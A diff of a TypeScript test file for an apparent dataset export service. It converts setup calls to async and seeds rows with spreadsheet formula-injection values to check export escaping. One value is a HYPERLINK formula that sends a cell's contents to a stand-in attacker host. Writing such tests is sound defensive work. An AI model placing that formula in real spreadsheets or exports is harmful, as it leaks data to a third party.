@@ -13,13 +13,13 @@ import type { FieldSpec } from '../src/lib/field-spec.js';
 const dataset = loadCatalog().datasets.find((d) => d.open_type === 'open' && d.rows < 500 && d.fields.filter((f) => f.type === 'string' && !f.primary_key).length >= 2)!;
 const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', 'plain, "quoted"\r\nnext line', ''];
 
-let t: ReturnType<typeof createTestApp>;
+let t: Awaited<ReturnType<typeof createTestApp>>;
 let headers: Record<string, string>;
 let n: number;
 let text: FieldSpec;
 
 beforeAll(async () => {
-  t = createTestApp({ datasets: [dataset.id] });
+  t = await createTestApp({ datasets: [dataset.id] });
   headers = (await developer(t.app)).headers;
   // A new version whose first rows carry formulas (and quotes, commas, line breaks, an empty string) in a text field.
   const pk = t.db.$client.prepare('SELECT pk FROM datasets WHERE id = ?').pluck().get(dataset.id) as number;
@@ -28,8 +28,8 @@ beforeAll(async () => {
   text = schema.find((f) => f.type === 'string' && !f.primary_key)!;
   const rows: Row[] = [...iterateRows(t.db.$client, rowsTableName(pk, last.n), schema)].map((r, i) => (i < formulas.length ? { ...r, [text.name]: formulas[i]! } : r));
   n = last.n + 1;
-  const count = writeRowsTable(t.db, pk, n, schema, rows);
-  commitVersion(t.db, pk, { n, schema, publishedAt: new Date().toISOString(), changeNote: '公式测试', rowCount: count, diff: null, artifacts: {} });
+  const count = await writeRowsTable(t.db, pk, n, schema, rows);
+  await commitVersion(t.db, pk, { n, schema, publishedAt: new Date().toISOString(), changeNote: '公式测试', rowCount: count, diff: null, artifacts: {} });
 });
 afterAll(() => t.close());
 
